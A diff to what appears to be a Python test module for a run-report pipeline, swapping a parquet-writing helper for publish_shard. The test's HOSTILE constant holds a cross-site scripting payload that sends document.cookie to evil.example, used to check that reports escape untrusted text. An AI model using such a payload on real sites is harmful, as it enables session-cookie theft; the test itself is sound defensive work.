@@ -17,7 +17,7 @@ from tasks.plan.run_config import RunConfig
 from tasks.records import RunPaths, shard_indices
 from tasks.results.run_report import ErrorCount, publish_report
 from tasks.results.summary import summarize_run
-from tests.support.synthetic import write_run
+from tests.support.synthetic import publish_shard, write_run
 
 HOSTILE = (
     "<script>fetch('https://evil.example/'+document.cookie)</script><img src=https://evil.example/x.png "
@@ -56,7 +56,7 @@ def _make_hostile(run: RunPaths, index: int) -> None:
     rollouts = pl.read_parquet(run.rollouts(index))
     message = pl.struct(role=pl.lit("user"), content=pl.lit(HOSTILE))
     failed = pl.col("error").is_not_null()
-    publish_parquet(
+    publish_shard(
         rollouts.with_columns(
             prompt=pl.concat_list(message),
             completion=pl.when(~failed).then(pl.lit(HOSTILE)),
@@ -66,7 +66,7 @@ def _make_hostile(run: RunPaths, index: int) -> None:
         run.rollouts(index),
     )
     scores = pl.read_parquet(run.scores(index))
-    publish_parquet(scores.with_columns(extracted_answer=pl.lit(HOSTILE)), run.scores(index))
+    publish_shard(scores.with_columns(extracted_answer=pl.lit(HOSTILE)), run.scores(index))
 
 
 def _write_telemetry(run: RunPaths) -> None:
